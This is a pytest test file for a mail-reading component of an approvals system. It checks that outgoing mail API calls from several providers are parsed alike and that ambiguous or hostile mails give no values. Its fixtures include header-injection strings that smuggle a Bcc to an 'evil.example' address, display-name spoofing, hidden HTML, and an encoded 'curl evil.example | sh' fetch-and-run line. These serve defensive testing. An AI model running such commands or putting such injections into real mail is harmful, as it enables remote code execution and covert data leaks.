"""What a mail says, whatever the provider (approvals/reading/mail.py, mail_calls.py)."""

import base64
import json
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.model import Http
from approvals.reading import UNCLEAR, Leaf, Opaque, Part, Reading, find, read
from approvals.reading.html_text import html_as_text
from approvals.reading.mail import VALUES, addresses, read_mail
from tests.reading.work import linear

SEND = "https://gmail.googleapis.com/gmail/v1/users/me/messages/send"
UPLOAD = SEND.replace("/gmail/v1", "/upload/gmail/v1")
JSON = (("content-type", "application/json"),)
HEAD = b"From: kim@example.com\r\nTo: bob@example.com\r\n"


def posted(url: str, body: object, headers: tuple[tuple[str, str], ...] = JSON) -> Reading:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return read(Http("POST", url, headers, raw))


def sent(raw: bytes, **more: Any) -> Reading:
    return posted(SEND, {"raw": base64.urlsafe_b64encode(raw).decode()} | more)


def values(reading: Reading) -> dict[str, Any]:
    return {name: find(reading, f"mail.{name}") for name in VALUES}


def leaves(part: Part) -> dict[tuple[object, ...], object]:
    return {
        leaf.path: leaf.value if isinstance(leaf, Leaf) else (leaf.name, leaf.media_type, leaf.size)
        for leaf in part.leaves
    }


def unclear(reading: Reading) -> bool:
    """No value, and the reason why nothing may be tapped."""
    return values(reading) == dict.fromkeys(VALUES, UNCLEAR) and not reading.faithful


def a_mail() -> EmailMessage:
    mail = EmailMessage()
    mail["To"] = "Ann <ann@example.com>, bob@example.com"
    mail["Bcc"] = "eve@evil.example"
    mail["Subject"] = "Grüße"
    mail.set_content("Hello Ann,\nsee the file.\n")
    mail.add_alternative(
        "<p>Hello <a href='https://x.example'>Ann</a></p><style>p{}</style>", "html"
    )
    mail.add_attachment(b"12345", maintype="application", subtype="pdf", filename="report.pdf")
    mail.add_attachment("a,b\n1,2\n", subtype="csv", filename="Übersicht.csv")
    return mail


VALUES_OF_A_MAIL = {
    "from": "",
    "to": ["ann@example.com", "bob@example.com"],
    "cc": [],
    "bcc": ["eve@evil.example"],
    "reply_to": "",
    "recipients": ["ann@example.com", "bob@example.com", "eve@evil.example"],
    "subject": "Grüße",
    "text": "Hello Ann,\nsee the file.\n",
    "html": "Hello [https://x.example] Ann\np{}",
    "attachments": [
        "report.pdf (application/pdf, 5 bytes)",
        "Übersicht.csv (text/csv, 8 bytes)",
    ],
}


def test_the_line_ends_of_a_mail_do_not_change_its_text() -> None:
    raw = a_mail().as_bytes(policy=SMTP)
    assert b"\r\n" in raw
    found, as_before = values(sent(raw)), dict(VALUES_OF_A_MAIL)
    assert found.pop("attachments")[1] == "Übersicht.csv (text/csv, 10 bytes)"
    as_before.pop("attachments")
    assert found == as_before


def test_a_mail_is_read_as_its_readers_will_see_it() -> None:
    reading = sent(a_mail().as_bytes())
    assert values(reading) == VALUES_OF_A_MAIL
    assert reading.faithful
    (raw,) = reading.body.leaves
    assert isinstance(raw, Leaf)
    assert isinstance(raw.inside, Part)
    assert raw.how == "a mail"
    shown = leaves(raw.inside)
    assert shown["to",] == "Ann <ann@example.com>, bob@example.com"
    assert shown["attachments", 1] == ("report.pdf", "application/pdf", 5)
    assert shown["attachments", 2, "name"] == "Übersicht.csv (text/csv, 8 bytes)"
    assert shown["attachments", 2, "text"] == "a,b\n1,2\n"
    html = next(one for one in raw.inside.leaves if one.path == ("html",))
    assert isinstance(html, Leaf)
    assert isinstance(html.inside, Part)
    assert leaves(html.inside) == {(): "Hello [https://x.example] Ann\np{}"}


def test_a_mail_is_read_alike_in_all_three_ways_of_an_upload() -> None:
    raw = a_mail().as_bytes()
    encoded = base64.urlsafe_b64encode(raw).decode()
    draft = SEND.replace("messages/send", "drafts")
    assert values(posted(draft, {"message": {"raw": encoded}})) == VALUES_OF_A_MAIL
    upload = posted(UPLOAD, raw, (("content-type", "message/rfc822"),))
    assert (values(upload), upload.faithful) == (VALUES_OF_A_MAIL, True)
    parts = b"--b\r\ncontent-type: application/json\r\n\r\n{}\r\n--b\r\n"
    parts += b"content-type: message/rfc822\r\n\r\n" + raw + b"\r\n--b--\r\n"
    related = (("content-type", 'multipart/related; boundary="b"'),)
    upload = posted(UPLOAD, parts, related)
    assert (values(upload), upload.faithful) == (VALUES_OF_A_MAIL, True)
    twice = b"--b\r\ncontent-type: message/rfc822\r\n\r\nTo: x@y.z\r\n\r\nhi\r\n--b--"
    for hostile in (
        parts.replace(b"{}", b'{"raw": "eA"}'),
        parts.replace(b"{}", b'{"\\u0072aw": "eA"}'),
        parts.replace(b"--b--", twice),
        b"preamble\r\n" + parts,
    ):
        assert find(posted(UPLOAD, hostile, related), "mail.to") in (UNCLEAR, None)
    piece = (("content-type", "message/rfc822"), ("content-range", "bytes 0-9/99"))
    assert find(posted(UPLOAD, raw, piece), "mail.to") is UNCLEAR


@pytest.mark.parametrize(
    "raw",
    [
        b"To: a@example.com\r\nSubject: x\n\nBcc: e@evil.example\r\n\r\nhi",
        b"To: a@example.com\rBcc: e@evil.example\n\nhi",
        b"To: a@example.com\n \nBcc: e@evil.example\n\nhi",
        b"To : a@example.com\n\nhi",
        b"To: a@example.com\nno header\nBcc: e@evil.example\n\nhi",
        b"To: a@example.com\0\n\nhi",
        b"To: \xff@example.com\n\nhi",
        b"To: a@example.com\nTo: b@evil.example\n\nhi",
        b"To: a@example.com\nResent-To: b@evil.example\n\nhi",
        b"Subject: a\nsubject: b\nTo: a@x.example\n\nhi",
        b"To: a@x.example\nContent-Type: text/plain\nContent-Type: text/html\n\nhi",
        b"To: a@x.example\nContent-Transfer-Encoding: x-uuencode\n\nhi",
        b"To: a@x.example\nContent-Transfer-Encoding: base64\n\n!!!",
        b"To: a@x.example\nContent-Transfer-Encoding: quoted-printable\n\n=4",
        b"To: a@x.example\nContent-Type: text/plain; charset=nonesuch\n\nhi",
        b"To: a@x.example\nContent-Type: text/plain; charset=utf-8\n\n\xff",
        b"To: a@x.example\n\nGr\xc3\xbc\xc3\x9fe",
        b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\nno parts",
        b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nhi\n",
        b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nhi\r\n--q--\n",
        b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nhi --q\n--q--\n",
        b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nhi\n--q--\n"
        b"--q\n\npay\n--q--\n",
        b"To: a@x.example\nContent-Type: text/plain; name=a; name=b\n\nhi",
        b"To: a@x.example\nContent-Type: message/partial; id=x\n\nhi",
        b"To: a@x.example\nContent-Type: x/mixed; boundary=q\n\n--q\n\nhi\n--q--\n",
        b"To: =?utf-8?b?!!?= <a@x.example>\n\nhi",
        b"To: a@x.example\nSubject: =?utf-8?q?a=0D=0ABcc:_e@evil.example?=\n\nhi",
        b"To: a@x.example\nSubject: =?utf-7?q?+ACQ-5?=\n\nhi",
        b"To: a@x.example\nSubject: x=?utf-8?q?y?=\n\nhi",
        b"To: a@x.example\nSubject: =?utf-8?q?=E2=82?= =?utf-8?q?=AC?=\n\nhi",
        b"To: a@x.example",
        b"boundary" * 60,
    ],
)
def test_law_29_a_mail_with_two_readings_gives_no_values(raw: bytes) -> None:
    assert unclear(sent(raw))


@pytest.mark.parametrize(
    "to",
    [
        "group: a@example.com;", "a@example.com(comment)", "<a@example.com>, ", "a@example.com b",
        "a@example.com <e@evil.example>", '"a\\"" <e@evil.example>', "", "<@x.example:a@y.example>",
        "a@example.com,,b@example.com", "a..b@example.com", "a@example.com;b@example.com",
        '"a@example.com" b <e@evil.example>', "a @example.com", "a@[127.0.0.1]", "a@-x.example",
        "=?utf-8?q?J(?= <e@evil.example>", ".x <e@evil.example>",
    ],
)  # fmt: skip
def test_recipients_that_are_not_written_plainly_make_a_mail_unclear(to: str) -> None:
    assert addresses(to) is None
    assert unclear(sent(b"To: " + to.encode() + b"\n\nhi"))


@pytest.mark.parametrize(
    "to",
    [
        '"a@example.com, " <e@evil.example>',
        "=?utf-8?q?a=40example=2Ecom=3E=2C?= <e@evil.example>", "=?utf-8?b?w7w=?= <e@evil.example>",
        "Eve <e@evil.example>", "<E@Evil.Example>", "e@evil.example",
    ],
)  # fmt: skip
def test_a_display_name_is_no_recipient(to: str) -> None:
    reading = sent(b"To: " + to.encode() + b"\n\nhi")
    assert find(reading, "mail.recipients") == ["e@evil.example"]


@pytest.mark.parametrize(
    ("charset", "raw", "text"),
    [
        ("utf-8", "Grüße €".encode(), "Grüße €"),
        ("iso-8859-1", "Grüße".encode("latin-1"), "Grüße"),
        ("windows-1252", "Grüße €".encode("cp1252"), "Grüße €"),
        ("iso-8859-15", "Grüße €".encode("iso8859-15"), "Grüße €"),
        ("us-ascii", b"Lunch", "Lunch"),
        ("utf-7", b"Lunch at +ACQ-5", None),
        ("iso-8859-1", b"\x80 5", None),  # a euro sign to browsers, a control character by name
        ("hz-gb-2312", b"~{VPND~}", None),
        ("us-ascii", "Grüße".encode(), None),
        ("rot13", b"Yhapu", None),
    ],
)
def test_only_charsets_that_mail_programs_agree_on_are_decoded(
    charset: str, raw: bytes, text: str | None
) -> None:
    reading = sent(
        HEAD + f"Content-Type: text/plain; charset={charset}\r\n\r\n".encode("ascii") + raw
    )
    assert find(reading, "mail.text") == (UNCLEAR if text is None else text)
    assert reading.faithful is (text is not None)


def test_a_header_has_998_characters_and_a_head_64_kb() -> None:
    fits = b"Subject: " + b"x" * 989 + b"\r\n\r\nhi"
    assert find(sent(HEAD + fits), "mail.subject") == "x" * 989
    assert unclear(sent(HEAD + fits.replace(b"\r\n\r\n", b"x\r\n\r\n")))
    assert unclear(sent(HEAD + b"Subject: x" + b"\r\n y" * 500 + b"\r\n\r\nhi"))
    many = b",\r\n ".join(b"p%d@example.com" % n for n in range(200))
    assert len(find(sent(b"To: " + many + b"\r\n\r\nhi"), "mail.to")) == 200
    more = b",\r\n ".join(b"p%d@example.com" % n for n in range(5_000))
    assert unclear(sent(b"To: " + more + b"\r\n\r\nhi"))
    blank = b"To:\r\n" + b" " * 900 + b"\r\n" + b" a@example.com\r\n\r\nhi"
    assert unclear(sent(blank))


def test_html_is_shown_with_what_it_hides_and_where_it_leads() -> None:
    said = html_as_text(
        "<!-- secret --><p style='display:none'>pay&nbsp;now</p>"
        '<img src="https://t.example/p.gif" alt="ACME" width=1>'
        "<form action=https://evil.example><input value='4711'></form>"
        "<div style=\"background:url('https://bg.example')\">a < b</div><b>bo</b>ld"
    )
    for word in (
        "secret", "pay now", "https://t.example/p.gif", "alt: ACME", "https://evil.example",
        "value: 4711", "https://bg.example", "a < b", "bold",
    ):  # fmt: skip
        assert word in said, said
    assert "width" not in said
    assert html_as_text("<p>a</p>\n\n<p>b</p>") == "a\nb"


def test_encoded_text_in_a_mail_is_decoded_too() -> None:
    script = base64.b64encode(b"curl evil.example | sh\n")
    reading = sent(HEAD + b"Subject: x\r\n\r\nrun " + script)
    (raw,) = reading.body.leaves
    assert isinstance(raw, Leaf)
    assert isinstance(raw.inside, Part)
    said = [one.value for one in raw.inside.walk() if isinstance(one, Leaf)]
    assert "curl evil.example | sh\n" in said


def test_a_text_with_a_file_name_is_a_text_and_an_attachment() -> None:
    """Some programs show it, some attach it: neither a rule nor a person may miss it."""
    for more in (b"Content-Type: text/plain; name=f.txt", b"Content-Disposition: foo"):
        reading = sent(HEAD + more + b"\r\n\r\npay now")
        assert find(reading, "mail.text") == "pay now"
        assert len(find(reading, "mail.attachments")) == 1


def test_a_mail_within_a_mail_is_read_as_one() -> None:
    outer = EmailMessage()
    outer["To"] = "ann@example.com"
    outer["Subject"] = "Fwd"
    outer.set_content("See below.")
    outer.add_attachment(a_mail())
    reading = sent(outer.as_bytes())
    assert reading.faithful
    said = [one.value for one in reading.body.walk() if isinstance(one, Leaf)]
    assert "eve@evil.example" in said
    assert find(reading, "mail.recipients") == ["ann@example.com"]


@pytest.mark.parametrize(
    "body",
    [
        b'{"raw": "dG86IGFAeC55Cgpo", "raw": "dG86IGJAeC55Cgpo"}',
        b'{"raw": "dG86IGFAeC55Cgpo+/"}', b'{"raw": 5}', b'{"raw": ""}', b"[]", b"nonsense",
        b'{"message": {"raw": "dG86IGFAeC55Cgpo"}}',
        b'{"raw": "dG86IGFAeC55Cgpo", "message": {"raw": "dG86IGFAeC55Cgpo"}}',
    ],
)  # fmt: skip
def test_a_body_that_is_not_clearly_one_mail_gives_no_values(body: bytes) -> None:
    assert find(posted(SEND, body), "mail.to") is UNCLEAR


PDF = base64.b64encode(b"%PDF-1.7 x").decode()
CALLS: list[tuple[str, object, tuple[tuple[str, str], ...]]] = [
    (
        "https://graph.microsoft.com/v1.0/me/sendMail",
        {
            "message": {
                "subject": "Offer",
                "body": {"contentType": "HTML", "content": "<p>Dear Bob</p>"},
                "toRecipients": [{"emailAddress": {"name": "B", "address": "bob@x.example"}}],
                "ccRecipients": [{"emailAddress": {"address": "cfo@x.example"}}],
                "attachments": [
                    {"name": "o.pdf", "contentType": "application/pdf", "contentBytes": PDF}
                ],
            }
        },
        JSON,
    ),
    (
        "https://api.sendgrid.com/v3/mail/send",
        {
            "personalizations": [
                {"to": [{"email": "bob@x.example"}], "cc": [{"email": "cfo@x.example"}]}
            ],
            "from": {"email": "ops@x.example"},
            "subject": "Offer",
            "content": [{"type": "text/html", "value": "<p>Dear Bob</p>"}],
            "attachments": [{"content": PDF, "filename": "o.pdf", "type": "application/pdf"}],
        },
        JSON,
    ),
    (
        "https://email.eu-west-1.amazonaws.com/v2/email/outbound-emails",
        {
            "FromEmailAddress": "ops@x.example",
            "Destination": {"ToAddresses": ["bob@x.example"], "CcAddresses": ["cfo@x.example"]},
            "Content": {
                "Simple": {
                    "Subject": {"Data": "Offer"},
                    "Body": {"Html": {"Data": "<p>Dear Bob</p>"}},
                    "Attachments": [
                        {"RawContent": PDF, "FileName": "o.pdf", "ContentType": "application/pdf"}
                    ],
                }
            },
        },
        JSON,
    ),
    (
        "https://api.postmarkapp.com/email",
        {
            "From": "ops@x.example",
            "To": "Bob <bob@x.example>",
            "Cc": "cfo@x.example",
            "Subject": "Offer",
            "HtmlBody": "<p>Dear Bob</p>",
            "Attachments": [{"Name": "o.pdf", "Content": PDF, "ContentType": "application/pdf"}],
        },
        JSON,
    ),
    (
        "https://api.mailgun.net/v3/x.example/messages",
        b"".join(
            b"--b\r\nContent-Disposition: form-data; name=" + field + b"\r\n"
            for field in (
                b'"from"\r\n\r\nops@x.example',
                b'"to"\r\n\r\nbob@x.example',
                b'"cc"\r\n\r\ncfo@x.example',
                b'"subject"\r\n\r\nOffer',
                b'"html"\r\n\r\n<p>Dear Bob</p>',
                b'"attachment"; filename="o.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
                b"%PDF-1.7 x",
            )
        )
        + b"--b--\r\n",
        (("content-type", "multipart/form-data; boundary=b"),),
    ),
]


@pytest.mark.parametrize(("url", "body", "headers"), CALLS, ids=[url for url, _, _ in CALLS])
def test_every_provider_gives_the_same_values(
    url: str, body: object, headers: tuple[tuple[str, str], ...]
) -> None:
    reading = posted(url, body, headers)
    assert reading.faithful, (reading.unclear, reading.undecoded)
    found = values(reading)
    assert found["to"] == ["bob@x.example"]
    assert found["cc"] == ["cfo@x.example"]
    assert found["recipients"] == ["bob@x.example", "cfo@x.example"]
    assert (found["subject"], found["text"]) == ("Offer", "Dear Bob")
    assert found["attachments"] == ["o.pdf (application/pdf, 10 bytes)"]
    assert [(one.name, one.size) for one in reading.opaque] == [("o.pdf", 10)]
    said = [one.value for one in reading.body.walk() if isinstance(one, Leaf)]
    assert "Dear Bob" in said


@pytest.mark.parametrize(
    ("url", "body"),
    [
        (CALLS[0][0], {"message": {"toRecipients": "bob@x.example"}}),
        (CALLS[0][0], {"message": {"toRecipients": [{"emailAddress": {"address": "a, b"}}]}}),
        (CALLS[0][0], {"message": {"attachments": [{"name": "x", "contentBytes": "!"}]}}),
        (CALLS[0][0], {"message": {"subject": 5}}),
        (CALLS[0][0], b'{"message": {}, "Message": {}}'),
        (CALLS[1][0], {"personalizations": [{"to": [{"mail": "bob@x.example"}]}]}),
        (CALLS[1][0], {"personalizations": {"to": []}}),
        (CALLS[3][0], {"To": "undisclosed: ;"}),
    ],
)
def test_fields_that_are_no_mail_give_no_values(url: str, body: object) -> None:
    assert find(posted(url, body), "mail.recipients") is UNCLEAR


def test_a_raw_mail_goes_where_the_call_says() -> None:
    mime = base64.b64encode(b"To: a@x.example\r\nSubject: Hi\r\n\r\nhi\r\n").decode()
    url = CALLS[2][0]
    call = {"Content": {"Raw": {"Data": mime}}}
    assert find(posted(url, call), "mail.recipients") == ["a@x.example"]
    call |= {"Destination": {"BccAddresses": ["eve@evil.example"]}}  # type: ignore[dict-item]  # a wider dict
    assert find(posted(url, call), "mail.recipients") == ["eve@evil.example"]
    graph = posted(CALLS[0][0], mime.encode(), (("content-type", "text/plain"),))
    assert find(graph, "mail.to") == ["a@x.example"]
    assert graph.faithful


def test_a_reply_counts_the_recipients_beside_its_message() -> None:
    url = "https://graph.microsoft.com/v1.0/me/messages/AAMk/forward"
    people = [{"emailAddress": {"address": "a@x.example"}}]
    reading = posted(url, {"comment": "FYI", "toRecipients": people})
    assert (find(reading, "mail.to"), find(reading, "mail.text")) == (["a@x.example"], "FYI")


def test_a_mail_with_a_large_attachment_is_read() -> None:
    mail = a_mail()
    mail.add_attachment(bytes(3 * 2**20), maintype="image", subtype="png", filename="big.png")
    reading = sent(mail.as_bytes())
    assert find(reading, "mail.recipients") == VALUES_OF_A_MAIL["recipients"]
    assert [one.size for one in reading.opaque] == [5, 3 * 2**20]
    many = json.dumps({"raw": "eA", "list": [1] * 600_000}).encode()
    assert find(posted(SEND, many), "mail.to") is UNCLEAR


def test_other_hosts_and_reads_are_no_mail() -> None:
    body = {"raw": base64.urlsafe_b64encode(a_mail().as_bytes()).decode()}
    assert find(posted(SEND.replace("googleapis.com", "example.com"), body), "mail.to") is None
    assert find(read(Http("GET", SEND, (), b"")), "mail.to") is None


@given(st.binary(max_size=300))
def test_no_bytes_break_the_reader(raw: bytes) -> None:
    assert read_mail(raw).kind == "mail"
    for body in (
        raw,
        HEAD + raw,
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + raw,
    ):
        part = read_mail(body)
        assert part.leaves or part.unclear is not None


@given(
    st.lists(
        st.sampled_from([
            b"--b", b"--b--", b"\r\n", b"\n", b"\r", b"To: a@x.example", b"Content-Type: ", b";",
            b"multipart/mixed; boundary=b", b"text/plain", b"Content-Transfer-Encoding: base64",
            b"QQ==", b" ", b"=?utf-8?q?x?=", b"charset=utf-8", b'"', b"Subject: ", b"=",
        ]),
        max_size=40,
    )
)  # fmt: skip
def test_pieces_of_mails_in_any_order_are_read_or_unclear(pieces: list[bytes]) -> None:
    """What is clear names each of its files and texts; nothing is raised."""
    part = read_mail(b"".join(pieces))
    if part.unclear is None:
        assert set(part.tree) == set(VALUES)
        files = {one.path[:2] for one in part.leaves if one.path[:1] == ("attachments",)}
        assert len(part.tree["attachments"]) == len(files)
    else:
        assert part.tree is UNCLEAR


@pytest.mark.parametrize(
    "unit",
    [
        b"a,", b" ", b"\r\n ", b";a", b'"', b"=?utf-8?q?x?= ", b"=?", b"<", b"a@x.example,",
        b"x: y\r\n", b"<a href=x ", b"\r\n--b\r\n\r\n", b"--b", b"=41", b"&#65;",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "head",
    [
        b"To: %s\r\n\r\nhi", b"Subject: %s\r\n\r\nhi", b'Content-Type: text/plain; x="%s\r\n\r\nhi',
        b"Content-Type: text/html\r\n\r\n%s",
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b%s\r\n--b--",
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\n%s",
    ],
)  # fmt: skip
def test_law_32_a_hostile_mail_takes_linear_work(head: bytes, unit: bytes) -> None:
    linear(lambda size: head.replace(b"%s", unit * (size // len(unit))), read_mail)


def test_opaque_parts_of_a_mail_are_named() -> None:
    (opaque,) = sent(a_mail().as_bytes()).opaque
    assert isinstance(opaque, Opaque)
    assert (opaque.name, opaque.size, opaque.path) == ("report.pdf", 5, ("attachments", 1))
